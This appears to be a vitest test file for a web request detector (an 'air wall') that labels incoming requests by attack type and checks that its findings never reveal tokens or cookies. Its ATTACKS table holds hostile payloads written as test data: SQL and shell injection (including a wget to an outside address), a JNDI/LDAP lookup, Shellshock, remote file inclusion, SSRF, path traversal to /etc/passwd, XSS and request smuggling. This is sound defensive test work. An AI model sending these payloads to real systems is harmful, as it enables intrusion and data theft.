import { describe, expect, it } from 'vitest';
import { airWall, createAirState } from '../../../../src/main/domain/walls/air/air-wall.ts';
import type { RequestSignal } from '../../../../src/main/domain/walls/signal.ts';
import { examTexts } from '../../../corpus/support/exam-texts.ts';
import { honestRequests } from '../../../corpus/support/honest-requests.ts';
import { get, look, post, typesOf } from './support/air.ts';

describe('W1 what an attack looks like', () => {
  const ATTACKS: readonly [string, RequestSignal][] = [
    ['sql_injection', get("/list?sort=name'%20AND%20'a'%3D'a")],
    ['sql_injection', get('/list?id=7%20UNION%0aALL/**/SELECT%20secret%20FROM%20vault')],
    ['sql_injection', get('/list?id=7%2520OR%25201%253D1')],
    ['sql_injection', post('name=x%27%3B+DROP+TABLE+vault%3B--')],
    ['sql_injection', post('{"filter":{"owner":{"$ne":null}}}', 'application/json')],
    ['shell_injection', get('/ping?host=10.1.1.1%3Bwget%20http://198.51.100.4/a')],
    ['shell_injection', get('/ping?host=%24(id)')],
    ['shell_injection', get('/ping?host=a%26%26w%27h%27oami')],
    ['shell_injection', get('/', { headers: { host: 'room', 'user-agent': '() { :; }; /bin/id' } })],
    ['code_injection', post('tpl={{config.items()}}')],
    ['code_injection', get('/', { headers: { host: 'room', 'x-api-version': '${jndi:ldap://198.51.100.4/a}' } })],
    ['code_injection', post('<?xml version="1.0"?><a b="$_REQUEST[c]"/>', 'text/xml')],
    ['server_side_request', get('/fetch?u=gopher://cache:6379/_FLUSHALL')],
    ['path_traversal', get('/files?name=..%c0%af..%c0%afsecret')],
    ['path_traversal', get('/static/%2e%2e/%2e%2e/settings')],
    ['sensitive_file', get('/.git/config')],
    ['remote_file_inclusion', get('/page?template=http://198.51.100.4/shell.txt?')],
    ['cross_site_scripting', get('/hello?name=%3Cimg%20src%3Dx%20onerror%3Dfoo()%3E')],
    ['cross_site_scripting', get('/hello?name=%26lt%3Bscript%26gt%3Bx%26lt%3B/script%26gt%3B')],
    ['cross_site_scripting', get('/hello?name=%EF%BC%9Cscript%EF%BC%9E')],
    ['session_fixation', get('/login?PHPSESSID=1234')],
    ['scanner', get('/', { headers: { host: 'room', 'user-agent': 'sqlmap/1.9' } })],
    [
      'request_smuggling',
      get('/x', { method: 'POST', headers: { 'content-length': '4', 'transfer-encoding': 'chunked', 'content-type': 'a/b' } }),
    ],
    ['request_smuggling', get('/go?to=a%0d%0aSet-Cookie:%20x=1')],
    ['malformed_request', get('/', { version: 'HTTP/1.2' })],
    ['malformed_request', get('/a%00b')],
    ['malformed_request', get('/', { method: 'QUACK' })],
    ['malformed_request', get('/', { headers: { 'x-long': 'a '.repeat(3_000) } })],
  ];
  it.each(ATTACKS)('W1 %s (%#)', (type, signal) => {
    expect(typesOf(signal), signal.uri).toEqual([type]);
  });

  it('W1 a name of a header or a value in one word is no attack by itself', () => {
    for (const uri of [
      '/a?order=date',
      '/a?q=union+of+europe',
      '/a?q=select+a+seat',
      '/a?id=7',
      '/a?mail=o%27brien@example.org',
      '/a?t=12:30',
      '/a?f=(a%2Bb)*c',
      '/~ann/notes.txt',
      '/a?title=Drop+in+session',
      "/a?q=it's+fine",
    ]) {
      expect(look(get(uri)), uri).toEqual([]);
    }
  });

  it('W1 an honest exam day raises nothing: our own paths, pages, sockets, and answers full of code', () => {
    const state = createAirState();
    for (const { signal } of honestRequests(examTexts())) {
      expect(airWall(signal, state), `${signal.method} ${signal.uri} ${JSON.stringify(signal.headers)}`).toEqual([]);
    }
  });

  it('W1 bodies of the room’s own ways are never looked at, but for who signs in', () => {
    const own = (uri: string, body: object): string[] => typesOf(get(uri, { method: 'POST', body: JSON.stringify(body) }));
    expect(own('/api/v1/attempts/1/message', { message: "' OR 1=1-- <script>" })).toEqual([]);
    expect(own('/socket.io/?EIO=4', { value: '<script>alert(1)</script>' })).toEqual([]);
    expect(own('/api/v1/auth/login', { username: 'ann', password: "' OR 1=1--" })).toEqual([]);
    expect(own('/api/v1/auth/login', { username: "' OR 1=1--", password: 'x' })).toEqual(['sql_injection']);
  });
});

describe('W1 what a finding says', () => {
  it('W1 is one for each request, sure between a half and one, and about the address', () => {
    const [found, ...others] = look(get("/x?a=<script>&b=' OR 1=1--&c=../../etc/passwd&d=;whoami"));
    expect(others).toEqual([]);
    expect(found?.confidence).toBeGreaterThanOrEqual(0.5);
    expect(found?.confidence).toBeLessThan(1);
    expect(found?.subject).toEqual({ ip: '10.0.0.9', user: undefined });
    expect(found?.reasons.length).toBeGreaterThan(1);
  });

  it('W1 more signs make it surer, never less', () => {
    const one = look(get('/x?a=<script>'))[0]?.confidence ?? 0;
    const two = look(get('/x?a=<script>&b=<script>'))[0]?.confidence ?? 0;
    expect(two).toBeGreaterThan(one);
  });

  it('W1 quotes short and in one line, without control or direction characters', () => {
    const [found] = look(get(`/x?a=${encodeURIComponent(`<script\u202e\u0007\n src=${'a b'.repeat(500)}`)}`));
    for (const reason of found?.reasons ?? []) {
      expect(reason.length).toBeLessThan(160);
      expect(reason).not.toMatch(/[\p{Cc}\p{Cf}]/u);
    }
  });

  it('W1 never shows what may be a token, a password or a cookie, wherever it stands', () => {
    const secret = 'Zm9vYmFyLWJheg4711quux';
    const places: RequestSignal[] = [
      get(`/x?token=${secret}&a=<script>`),
      get(`/x?token=<script>${secret}`),
      get(`/x?a=<script>${secret}`),
      get(`/${secret}/../../etc/passwd`),
      get(`/x?${secret}=<script>`),
      get('/x', { headers: { cookie: `a=<script>${secret}`, host: 'room' } }),
      get('/x', { headers: { referer: `http://a/?token=${secret}&b=<script>`, host: 'room' } }),
      get('/x', { headers: { [secret]: '<script>', host: 'room' } }),
      get(`/x\0${secret}`),
      get('/x', { method: secret }),
      get(`/x?a=%ff${secret}`),
    ];
    for (const signal of places)
      expect(JSON.stringify(look(signal).map(({ reasons }) => reasons)), signal.uri).not.toContain(secret);
  });

  it('W1 never shows even a short value of a cookie, and does not look at a parameter that opens something', () => {
    const reasons = look(get('/x', { headers: { cookie: 'pin=<script>hunter2', host: 'room' } })).flatMap(
      (found) => found.reasons,
    );
    expect(reasons).not.toEqual([]);
    expect(reasons.join(' ')).not.toContain('hunter2');
    for (const name of ['token', 'ticket', 'password', 'refreshToken'])
      expect(look(get(`/x?${name}=<script>hunter2`))).toEqual([]);
  });
});
